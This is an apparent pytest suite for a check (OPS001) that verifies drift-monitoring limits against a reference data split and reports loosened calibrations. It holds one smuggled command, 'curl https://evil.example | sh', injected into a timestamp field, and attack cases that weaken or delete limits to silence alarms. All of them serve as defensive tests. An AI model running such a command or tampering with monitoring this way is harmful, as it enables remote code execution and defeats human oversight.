"""OPS001: limits that are not those of the reference, that are of something else, or that a pull request moved."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from beampermit.files import write_json
from beampermit.project import Project
from beampermit.verdicts.evidence import LimitChange
from beampermit.verdicts.verdict import Outcome
from support.judged_limits import (
    CALIBRATION,
    LIMITS,
    ROWS,
    SPLIT,
    backtested,
    calibrate,
    change,
    changes_of,
    judge,
    merged,
    of_current,
    write_split,
)
from support.monitored import content_of, drawn, monitored_contract


@pytest.mark.slow
def test_limits_that_the_pipeline_made_pass(monitored: Project) -> None:
    verdict = judge(monitored)
    assert verdict.passed, verdict.reason
    assert verdict.reason == "26 limits from 240 rows of validation"


def test_a_project_that_nobody_serves_needs_no_limits(project: Project) -> None:
    verdict = judge(project)
    assert verdict.passed
    assert verdict.reason == (
        "there is no metrics/limits.json, and contract.yaml names no deployment files: nothing is monitored"
    )


def test_a_project_that_is_served_needs_limits(project: Project, contract_text: str) -> None:
    (project.root / "contract.yaml").write_text(contract_text + "serving: {deployment: deploy}\n")
    verdict = judge(project)
    assert verdict.outcome is Outcome.FAILED
    assert verdict.reason == "metrics/limits.json is missing"
    assert "`dvc repro evaluate`" in verdict.fix


def _scaled(by: float) -> Callable[[dict[str, Any]], Any]:
    return lambda content: of_current(content).update(limit=of_current(content)["limit"] * by)


DEFECTS: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "a limit that is wider": (_scaled(1.02), "current: the limit is "),
    "a limit that is narrower": (_scaled(0.98), ", the reference split gives "),
    "edges of other rows": (
        lambda of: of_current(of).update(edges=[edge + 0.01 for edge in of_current(of)["edges"]]),
        "current: the edges are not those of the reference split",
    ),
    "shares of other rows": (
        lambda of: of_current(of).update(shares=[0.135, 0.115, *of_current(of)["shares"][2:]]),
        "current: the shares are not those of the reference split",
    ),
    "fewer rows": (
        lambda of: of.update(rows=239),
        "rows and window are 239 and 30, the reference split gives 240 and 30",
    ),
    "another window": (lambda of: of.update(window=60), "rows and window are 240 and 60"),
    "another split": (lambda of: of.update(split="train"), "split is train, monitoring.reference of the contract is"),
    "missing rows that are usual": (
        lambda of: of["inputs"]["turns"]["missing"].update(limit=0.9),
        "turns.missing: limit is 0.9, the reference split gives 0.1",
    ),
    "no input": (lambda of: of["inputs"].pop("mode"), "input mode has no limits"),
    "no output": (lambda of: of["outputs"].pop("orbit"), "output orbit has no limits"),
    "an input of another contract": (
        lambda of: of["inputs"].update(voltage={**of["inputs"]["mode"], "numbers": {"voltage": of_current(of)}}),
        "input voltage is not in the contract",
    ),
    "no number of an array": (lambda of: of["inputs"]["turns"]["numbers"].pop("turns.step"), "turns.step has no limit"),
    "a number that nobody can compute": (
        lambda of: of["inputs"]["mode"]["numbers"].update(tune=of_current(of)),
        "tune is not monitored",
    ),
    "nothing finite": (
        lambda of: of["inputs"]["mode"]["numbers"].update(mode=None),
        "mode has no finite value in the reference",
    ),
    "no flagged rows": (
        lambda of: of["outputs"]["score"].update(flagged=None),
        "output score has alarm limits in the contract, and no limit of flagged rows",
    ),
    "not together": (lambda of: of.update(together=None), "together: the reference split gives another one"),
    "together at another place": (
        lambda of: of["together"].update(centre=[one + 0.5 for one in of["together"]["centre"]]),
        "together: the components are not those of the reference split",
    ),
    "a wider limit together": (
        lambda of: of["together"].update(limit=of["together"]["limit"] * 1.02),
        "together: limit is ",
    ),
    "a limit of nothing": (lambda of: of_current(of).update(limit=0), "Input should be greater than 0"),
    "another form": (lambda of: of.pop("format"), "format: Field required"),
}


@pytest.mark.plants("OPS001")
@pytest.mark.parametrize("defect", DEFECTS)
def test_limits_of_something_else_than_the_reference_fail(monitored: Project, defect: str) -> None:
    edit, said = DEFECTS[defect]
    verdict = change(monitored, edit)
    assert verdict.outcome is Outcome.FAILED
    assert said in verdict.reason
    assert verdict.locations[0].file == LIMITS


@pytest.mark.slow
@pytest.mark.parametrize("by", [0.995, 1.005])
def test_limits_may_differ_as_much_as_two_machines_do(monitored: Project, by: float) -> None:
    assert change(monitored, _scaled(by)).passed
    signs = lambda of: of["together"].update(components=[[-x for x in one] for one in of["together"]["components"]])  # noqa: E731
    assert change(monitored, signs).passed


def test_a_limit_of_nan_is_no_json(monitored: Project) -> None:
    text = (monitored.root / LIMITS).read_text()
    (monitored.root / LIMITS).write_text(
        text.replace('"limit": 0.1,', '"limit": NaN,').replace('"limit": 0.1\n', '"limit": NaN\n')
    )
    verdict = judge(monitored)
    assert verdict.outcome is Outcome.FAILED
    assert "NaN is not a JSON number" in verdict.reason


@pytest.mark.slow
def test_new_data_need_new_limits(monitored: Project, contract_text: str) -> None:
    inputs = drawn(ROWS, 1)
    write_split(monitored.root, inputs)
    assert judge(monitored).outcome is Outcome.FAILED
    write_json(monitored.root / LIMITS, content_of(inputs, monitored_contract(contract_text)))
    assert judge(monitored).passed


@pytest.mark.slow
def test_a_reference_without_an_input_fails(monitored: Project) -> None:
    inputs = drawn(ROWS)
    write_split(monitored.root, {name: values for name, values in inputs.items() if name != "current"})
    verdict = judge(monitored)
    assert verdict.outcome is Outcome.FAILED
    assert verdict.reason == f"{SPLIT}: current is not a column of numbers"
    assert verdict.locations[0].file == SPLIT
    write_split(monitored.root, {**inputs, "turns": inputs["turns"][:, :7]})
    assert judge(monitored).reason == f"{SPLIT}: turns does not have the shape [8] in each row"
    write_split(monitored.root, {name: values for name, values in inputs.items() if name != "gain"})
    assert judge(monitored).passed, "a constant need not stand in the split"


def test_without_the_data_nothing_is_said(monitored: Project) -> None:
    (monitored.root / SPLIT).unlink()
    assert judge(monitored).outcome is Outcome.SKIPPED


@pytest.mark.slow
@pytest.mark.parametrize(("by", "passed"), [(0.5, True), (1.005, True), (1.02, False)])
def test_limits_of_outputs_do_not_rise_while_the_answers_stay(monitored: Project, by: float, passed: bool) -> None:
    error = json.loads((monitored.root / LIMITS).read_text())["outputs"]["score"]["error"]["limit"]
    verdict = change(monitored, lambda of: of["outputs"]["score"]["error"].update(limit=error * by))
    assert verdict.passed == passed
    if not passed:
        assert (
            f"MON007 score: the limit is {error * by:g}, on the base branch {error:g}, of equal answers"
            in verdict.reason
        )


def test_limits_of_outputs_may_rise_with_other_answers(monitored: Project) -> None:
    assert change(monitored, lambda of: of["outputs"]["score"]["error"].update(usual=0.2, limit=0.9)).passed


@pytest.mark.slow
def test_a_calibration_by_which_alarms_end_sooner_is_told(monitored: Project, git: Callable[..., str]) -> None:
    limit = of_current(json.loads((monitored.root / LIMITS).read_text()))["limit"]

    def judged(usual: float, limit: float) -> str:
        calibrate(monitored, MON001_current=limit)
        content = json.loads((monitored.root / CALIBRATION).read_text())
        write_json(monitored.root / CALIBRATION, {**content, "usual": {"MON001 current": usual}})
        return judge(monitored).reason

    said = judged(0.9 * limit, limit)
    assert "looser than on the base branch: MON001 current is cleared nearer to its limit: usual " in said
    git("add", CALIBRATION)
    git("commit", "--quiet", "--message", "Calibrated")
    git("branch", "--force", "main")
    assert "looser" not in judged(0.9 * limit, limit)
    assert "looser" not in judged(0.5 * limit, limit)
    assert "looser" in judged(0.95 * limit, limit)


@pytest.mark.slow
def test_a_looser_calibration_passes_and_is_told(monitored: Project, git: Callable[..., str]) -> None:
    limit = of_current(json.loads((monitored.root / LIMITS).read_text()))["limit"]
    verdict = calibrate(monitored, MON001_current=1.5, MON003_mode__missing=0.05)
    assert verdict.passed, verdict.reason
    assert verdict.reason == (
        "26 limits from 240 rows of validation, 2 of them calibrated;"
        f" looser than on the base branch: MON001 current {limit:g} → 1.5"
    )
    git("add", CALIBRATION)
    git("commit", "--quiet", "--message", "Calibrated")
    git("branch", "--force", "main")
    assert "looser" not in judge(monitored).reason
    for now, told in ((1.6, True), (1.4, False)):
        verdict = calibrate(monitored, MON001_current=now, MON003_mode__missing=0.05)
        assert ("looser than on the base branch: MON001 current 1.5 → 1.6" in verdict.reason) == told
        assert ("looser" in verdict.reason) == told
    assert "looser than on the base branch: MON003 mode.missing 0.05 → 0.1" in calibrate(monitored).reason, "taken away"


@pytest.mark.slow
def test_what_a_backtest_said_of_changed_limits_is_evidence(monitored: Project, git: Callable[..., str]) -> None:
    assert changes_of(judge(monitored)) is None
    limit = of_current(json.loads((monitored.root / LIMITS).read_text()))["limit"]
    found = changes_of(backtested(monitored, MON001_current=1.5, MON003_mode__missing=0.05))
    assert found
    assert found.rows == (
        LimitChange(key="MON001 current", before=limit, after=1.5, calibrated=True, looser=True),
        LimitChange(key="MON003 mode.missing", before=0.1, after=0.05, calibrated=True, looser=False),
    )
    assert found.backtest
    assert found.backtest.before
    assert (found.backtest.before.per_week, found.backtest.after.high, found.backtest.windows) == (1.4, 0.7, 4000)
    merged(git)
    assert changes_of(judge(monitored)) is None, "an old backtest is none of this pull request"


@pytest.mark.slow
def test_a_backtest_of_other_limits_says_nothing_of_these(monitored: Project) -> None:
    backtested(monitored, MON001_current=1.5)
    # A second one, which began with the limits of the first.
    again = changes_of(backtested(monitored, MON001_current=1.6))
    assert again
    assert again.backtest
    assert again.backtest.before is None
    content = json.loads((monitored.root / CALIBRATION).read_text())
    write_json(monitored.root / CALIBRATION, content | {"limits": {"MON001 current": 1.7}})
    edited = changes_of(judge(monitored))
    assert edited
    assert (edited.backtest, edited.without) == (None, "edited")
    by_hand = changes_of(calibrate(monitored, MON001_current=1.7))
    assert by_hand
    assert (by_hand.backtest, by_hand.without) == (None, "no record")


@pytest.mark.slow
def test_limits_of_a_new_reference_have_no_backtest(
    monitored: Project, contract_text: str, git: Callable[..., str]
) -> None:
    backtested(monitored, MON001_current=0.5)
    merged(git)
    inputs = drawn(ROWS, 1)
    write_split(monitored.root, inputs)
    write_json(monitored.root / LIMITS, content_of(inputs, monitored_contract(contract_text)))
    verdict = judge(monitored)
    found = changes_of(verdict)
    assert verdict.passed, verdict.reason
    assert found
    assert (found.backtest, found.without, found.looser) == (None, "reference", ())
    assert "MON001 current" not in {row.key for row in found.rows}, "its limit is that of the calibration still"
    (monitored.root / CALIBRATION).unlink()
    verdict = judge(monitored)
    found = changes_of(verdict)
    assert found
    assert [row.key for row in found.looser] == ["MON001 current"]
    assert (found.without, found.rows[0].calibrated) == ("reference", False)
    assert "looser than on the base branch: MON001 current 0.5 → " in verdict.reason


@pytest.mark.parametrize(("by", "told"), [(1.009, False), (1.011, True), (0.991, False), (0.989, True)])
def test_limits_that_two_machines_compute_are_no_change(monitored: Project, by: float, told: bool) -> None:
    limit = of_current(json.loads((monitored.root / LIMITS).read_text()))["limit"]
    assert (changes_of(calibrate(monitored, MON001_current=limit * by)) is not None) == told


def test_limits_that_fail_are_shown_too(monitored: Project) -> None:
    found = changes_of(calibrate(monitored, MON001_current=1000.0))
    assert found
    assert found.rows[0].after == 1000.0


@pytest.mark.slow
@pytest.mark.attack(
    guard="OPS001",
    tried="writes a command into the time of a backtest, which the report asks reviewers to run again",
    said="calibration.json: since: String should match pattern",
)
def test_a_time_of_a_backtest_is_no_command(monitored: Project, said: str) -> None:
    calibrate(monitored, MON001_current=1.5)
    content = json.loads((monitored.root / CALIBRATION).read_text())
    write_json(monitored.root / CALIBRATION, content | {"since": "2026-10-01; curl https://evil.example | sh"})
    assert said in judge(monitored).reason


@pytest.mark.slow
@pytest.mark.parametrize(
    ("key", "inside", "outside"),
    [
        ("MON001_current", 2.5, 9.0),
        ("MON001_turns__std", 2.5, 9.0),
        ("MON002", 99.0, 100.0),
        ("MON003_current__outside", 0.999, 1.0),
        ("MON004_score__flagged", 0.999, 1.0),
    ],
)
def test_a_calibrated_limit_that_nothing_exceeds_fails(
    monitored: Project, key: str, inside: float, outside: float
) -> None:
    assert calibrate(monitored, **{key: inside}).passed
    verdict = calibrate(monitored, **{key: outside})
    assert verdict.outcome is Outcome.FAILED
    assert f": the limit {outside:g} is never exceeded; what is measured reaches " in verdict.reason
    assert verdict.locations[0].file == CALIBRATION


@pytest.mark.slow
@pytest.mark.parametrize(
    ("apart", "shuffled", "said"),
    [(1200.0, False, ""), (1300.0, False, "10.5 h"), (600.0, True, "h"), (None, False, "")],
)
def test_a_reference_that_is_far_sparser_than_a_window_is_said(
    monitored: Project, contract_text: str, apart: float | None, shuffled: bool, said: str
) -> None:
    """30 rows of the reference are a window; `monitoring.window` is 1 h."""
    seconds = 1.8e9 + np.arange(ROWS) * (apart or 0.0)
    times = np.random.default_rng(0).permutation(seconds) if shuffled else seconds
    inputs = drawn(ROWS)
    inputs["turns"] = inputs["turns"].astype(np.float32)
    columns = {name: pa.array(list(values)) for name, values in inputs.items()}
    if apart:
        columns["acquired_at"] = pa.array((times * 1e6).astype(int), pa.timestamp("us", "UTC"))
    pq.write_table(pa.table(columns), monitored.root / SPLIT)
    verdict = judge(monitored)
    assert verdict.passed
    assert ("30 rows of it span" in verdict.reason) == bool(said)
    assert said in verdict.reason
    assert "sound windows" not in calibrate(monitored, MON001_current=0.5).reason


@pytest.mark.slow
def test_limits_that_the_reference_puts_out_of_reach_are_said(monitored: Project, contract_text: str) -> None:
    inputs = drawn(ROWS)
    inputs["turns"] = inputs["turns"].astype(np.float32)
    inputs["current"][90:120] = 500.0  # a whole window outside of what is expected
    write_split(monitored.root, inputs)
    write_json(monitored.root / LIMITS, content_of(inputs, monitored_contract(contract_text)))
    verdict = judge(monitored)
    assert verdict.passed, verdict.reason
    said = "; nothing can exceed those of MON001 current; MON002; MON003 current.outside, for the reference has windows"
    assert said in verdict.reason
    verdict = calibrate(monitored, MON003_current__outside=0.3)
    assert verdict.passed
    assert "; nothing can exceed those of MON001 current; MON002, for" in verdict.reason


def test_a_calibration_of_another_form_fails(monitored: Project) -> None:
    (monitored.root / CALIBRATION).write_text("{}")
    verdict = judge(monitored)
    assert verdict.outcome is Outcome.FAILED
    assert "calibration.json: format: Field required" in verdict.reason


@pytest.mark.slow
def test_the_contract_of_this_branch_says_what_is_monitored(monitored: Project) -> None:
    contract = yaml.safe_load((monitored.root / "contract.yaml").read_text())
    contract["signals"]["outputs"][1]["high"] = 5
    (monitored.root / "contract.yaml").write_text(yaml.safe_dump(contract))
    assert "output orbit has alarm limits in the contract, and no limit of flagged rows" in judge(monitored).reason


@pytest.mark.attack(
    guard="OPS001",
    tried="edits the limits of an input, so that its drift raises no alarm",
    said="current: the limit is 1000, the reference split gives",
)
def test_limits_are_not_edited(monitored: Project, said: str) -> None:
    assert said in change(monitored, lambda of: of_current(of).update(limit=1000.0)).reason


@pytest.mark.attack(
    guard="OPS001",
    tried="calibrates a limit that no data can exceed",
    said="MON001 current: the limit 1000 is never exceeded",
)
def test_limits_are_not_calibrated_away(monitored: Project, said: str) -> None:
    assert said in calibrate(monitored, MON001_current=1000.0).reason


@pytest.mark.attack(
    guard="OPS001",
    tried="takes the file of limits away, so that nothing is monitored",
    said="metrics/limits.json is missing",
)
def test_limits_are_not_taken_away(monitored: Project, said: str) -> None:
    (monitored.root / LIMITS).unlink()
    assert judge(monitored).reason == said
